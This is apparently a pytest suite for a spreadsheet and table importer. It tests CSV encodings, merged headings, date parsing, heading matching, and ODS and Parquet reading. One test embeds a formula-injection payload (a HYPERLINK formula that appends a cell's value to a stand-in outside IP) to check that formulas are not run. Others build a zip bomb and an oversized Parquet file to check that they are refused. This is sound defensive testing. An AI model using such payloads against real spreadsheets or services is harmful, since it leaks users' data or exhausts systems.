"""What is read out of files of tables: cells, headings, and which column says what."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pyarrow
import pytest
from pyarrow import parquet

from graph.errors import DataError, ReadError
from ingest.tables import values
from ingest.tables.confined import read_confined
from ingest.tables.schema_matching import propose
from ingest.tables.sheets import Workbook, read_workbook
from ingest.tables.tables import tables_in
from tests.ingest.tables.sheets import Rows, text, xlsx

SHARED = Path(__file__).parents[4] / "shared" / "data"
ACTORS: Rows = [
    ["Institución", "Tipo", "Municipio"],
    ["Fundación Niñez", "ONG", "Sonsonate"],
    ["Parroquia El Ángel", "Iglesia", "Nahuizalco"],
]


def fields(book: Workbook) -> list[tuple[str, dict[str, str]]]:
    tables = tables_in(book)
    plan = propose(tables)
    return [
        (each.about, {column.heading: field for column, field in zip(table.columns, each.fields, strict=True) if field})
        for table in tables
        for each in [plan.tables[table.id]]
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"])
def test_csv_is_read_whatever_its_delimiter_and_encoding(delimiter: str, encoding: str) -> None:
    rows = [*ACTORS, ["Ñandú; S.A., «La Unión»", "Empresa", "Izalco"]]
    (sheet,) = read_workbook(text(rows, delimiter, encoding), "actores.csv").sheets
    assert [list(row) for row in sheet.rows] == rows or encoding in ("latin-1", "cp1252")
    assert sheet.rows[1][0] == "Fundación Niñez"
    assert [len(row) for row in sheet.rows] == [3, 3, 3, 3]


def test_titles_merged_headings_several_tables_and_remarks_are_told_apart() -> None:
    content = xlsx(
        {
            "Hoja1": [
                ["", ""], ["Actualizado en julio"], [],
                ["No.", "Nombre", "", ""], ["", "Institución", "Tipo", "Municipio"],
                [1, "Fundación Niñez", "ONG", "Sonsonate"], [], [2, "Parroquia El Ángel", "Iglesia", "Nahuizalco"],
                ["No.", "Institución", "Tipo", "Municipio"], ["Total", 2],
                ["Fuente: recorridos de las promotoras por los municipios del departamento, julio"], [],
                ["Mesas"], ["Mesa", "Miembros", "Objetivo"], ["Mesa de Paz", "Fundación Niñez", "Coordinar"],
            ]
        },
        merged=[("A1:D1", "DIRECTORIO 2026")],
    )  # fmt: skip
    first, second = tables_in(read_workbook(content, "mapeo.xlsx"))
    assert (first.header, [row.number for row in first.rows]) == (5, [6, 8])
    assert [row.number for row in first.passed_over] == [9, 10, 11]
    assert [column.letter for column in first.columns] == ["A", "B", "C", "D"]
    assert (second.title, second.header, len(second.rows)) == ("Mesas", 14, 1)
    assert fields(read_workbook(content, "mapeo.xlsx"))[1] == (
        "spaces",
        {"Mesa": "name", "Miembros": "members", "Objetivo": "purpose"},
    )


def test_merged_cells_all_have_their_value() -> None:
    rows = [["Municipio", "Institución"], ["", "Fundación Niñez"], ["", "Parroquia El Ángel"]]
    (sheet,) = read_workbook(xlsx({"a": rows}, merged=[("A2:A3", "Sonsonate")]), "a.xlsx").sheets
    assert [row[0] for row in sheet.rows] == ["Municipio", "Sonsonate", "Sonsonate"]


def test_of_a_formula_the_value_is_read_and_nothing_is_run() -> None:
    content = io.BytesIO()
    from xlsxwriter import Workbook as Made

    book = Made(content, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Institución", "Tipo"])
    sheet.write_formula(1, 0, '=HYPERLINK("http://198.51.100.1/"&B2)', None, "Fundación Niñez")
    sheet.write(1, 1, "ONG")
    book.close()
    (read,) = read_workbook(content.getvalue(), "a.xlsx").sheets
    assert read.rows[1] == ("Fundación Niñez", "ONG")


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("2015", "2015"), (2015, "2015"), ("07/2015", "2015-07"), ("31/07/2015", "2015-07-31"),
        ("31-7-15", "2015-07-31"),
        ("2015-07-31", "2015-07-31"), ("julio de 2015", "2015-07"), ("31 de julio de 2015", "2015-07-31"),
        ("jul-15", "2015-07"), (42216, "2015-07-31"), ("42216", "2015-07-31"), (datetime(2015, 7, 31), "2015-07-31"),
        ("July 31, 2015", "2015-07-31"), ("1 de março de 2020", "2020-03-01"), ("2015?", "2015?"),
    ],
)  # fmt: skip
def test_dates_are_read_in_the_notations_that_people_use(written: object, kept: str) -> None:
    assert values.day(written) == kept  # type: ignore[arg-type]  # a cell


@pytest.mark.parametrize("written", ["hoy", "31/02/2015", "13/13/2015", "pendiente", "0"])
def test_what_is_no_date_is_refused_with_a_remedy(written: str) -> None:
    with pytest.raises(DataError) as error:
        values.day(written)
    assert error.value.remedy is not None


def test_a_column_of_american_dates_is_told_by_its_days() -> None:
    assert values.month_first(["07/31/2015", "01/02/2015"])
    assert not values.month_first(["31/07/2015", "01/02/2015"])
    assert not values.month_first(["01/02/2015"])


def test_headings_are_understood_without_accents_in_three_languages_and_any_order() -> None:
    for headings in (
        ["MUNICIPIO", "INSTITUCION", "Tipo de organizacion", "Telefono"],
        ["Phone", "Organization", "Type", "City"],
        ["Nome da instituição", "Telefone", "Município", "Tipo"],
    ):
        row = {"name": "Fundación Niñez", "type": "ONG", "place": "Sonsonate", "contact": "2222-2222"}
        cells = ["Sonsonate", "Fundación Niñez", "ONG", "2222-2222"]
        ordered = {
            "Phone": [cells[3], cells[1], cells[2], cells[0]],
            "Nome da instituição": [cells[1], cells[3], cells[0], cells[2]],
        }.get(headings[0], cells)
        ((about, understood),) = fields(read_workbook(xlsx({"Hoja1": [headings, ordered]}), "a.xlsx"))
        assert (about, set(understood.values())) == ("actors", set(row))


def test_a_heading_is_not_believed_where_its_values_contradict_it() -> None:
    rows = [["Institución", "Sitio web", "Fecha de inicio"], ["Fundación Niñez", "no tiene", "cuando empezó"]]
    ((_, understood),) = fields(read_workbook(xlsx({"Hoja1": rows}), "a.xlsx"))
    assert understood == {"Institución": "name"}


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "vacio.xlsx"), (b"PK\x03\x04 no", "roto.xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "viejo.xls"),
        (b"\n\n,,\n", "nada.csv"), (b"\x00\x01\x02" * 400, "binario.csv"),
    ],
)  # fmt: skip
def test_what_is_no_table_is_refused_in_words(content: bytes, name: str) -> None:
    with pytest.raises(ReadError, match=name):
        read_confined(content, name)


def test_an_archive_that_unpacks_to_too_much_is_refused() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"0" * 50_000_000)
    with pytest.raises(ReadError, match="times its size"):
        read_workbook(content.getvalue(), "bomba.xlsx")


def test_sheets_that_others_made_are_understood() -> None:
    folder = SHARED / "formats_actor_maps"
    if not folder.exists():
        pytest.skip("the collection of other programs' files is not there")
    labs = read_workbook((folder / "csv/social_science_labs_fr.csv").read_bytes(), "labs.csv")
    assert fields(labs) == [
        ("actors", {"acronym": "names", "name": "name", "creation_year": "start", "partners": "allies"})
    ]
    mafia = read_workbook((folder / "kumu/paypal-mafia.xlsx").read_bytes(), "mafia.xlsx")
    assert [about for about, _ in fields(mafia)] == ["actors", "ties"]
    with pytest.raises(ReadError, match="readable"):  # it was sent as text, and every other byte of it is lost
        read_workbook((folder / "kumu/overview-of-the-euro-crisis.xlsx").read_bytes(), "crisis.xlsx")


ODS = """<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">
<office:body><office:spreadsheet><table:table table:name="Directorio">
<table:table-row><table:table-cell office:value-type="string" table:number-columns-spanned="2">
<text:p>Directorio</text:p></table:table-cell><table:covered-table-cell/></table:table-row>
<table:table-row><table:table-cell office:value-type="string"><text:p>Institución</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>Desde</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell office:value-type="string"><text:p>Colegio Los Pinos</text:p></table:table-cell>
<table:table-cell office:value-type="date" office:date-value="2014-03-01"><text:p>01/03/14</text:p></table:table-cell>
</table:table-row>
<table:table-row table:number-rows-repeated="1048573"><table:table-cell table:number-columns-repeated="16384"/>
</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"""
MANIFEST = """<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"""


def test_a_sheet_of_libreoffice_is_read_without_the_million_empty_rows_that_it_states() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", ODS.replace("\n", ""))  # on one line, as LibreOffice writes it
        archive.writestr("META-INF/manifest.xml", MANIFEST)
    (sheet,) = read_workbook(content.getvalue(), "directorio.ods").sheets
    assert [list(row) for row in sheet.rows[1:]] == [["Institución", "Desde"], ["Colegio Los Pinos", date(2014, 3, 1)]]


def parquet_of(**columns: Any) -> bytes:
    content = io.BytesIO()
    parquet.write_table(pyarrow.table(columns), content)
    return content.getvalue()


def test_any_parquet_table_is_a_sheet() -> None:
    content = parquet_of(
        nombre=["Colegio Los Pinos", "=Liceo"],
        desde=pyarrow.array([datetime(2014, 3, 1), None], pyarrow.timestamp("ns", tz="America/Guatemala")),
        siglas=[["CLP", "a; b"], []],
        foto=[b"\x00", None],
        nota=[float("nan"), 1.5],
    )
    (sheet,) = read_workbook(content, "directorio.parquet").sheets
    assert list(sheet.rows[1:]) == [
        ("Colegio Los Pinos", datetime(2014, 3, 1), '["CLP", "a; b"]'),
        ("=Liceo", None, None, None, 1.5),
    ]


def test_parquet_that_is_damaged_or_unpacks_to_too_much_is_refused() -> None:
    good = parquet_of(nombre=["Colegio"] * 100)
    few = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 20_000, pyarrow.int32()), ["x" * 30_000])
    for content in (b"PAR1", good[:-5], good[:40] + good[60:], parquet_of(nombre=few)):
        with pytest.raises(ReadError, match=r"a\.parquet"):
            read_workbook(content, "a.parquet")
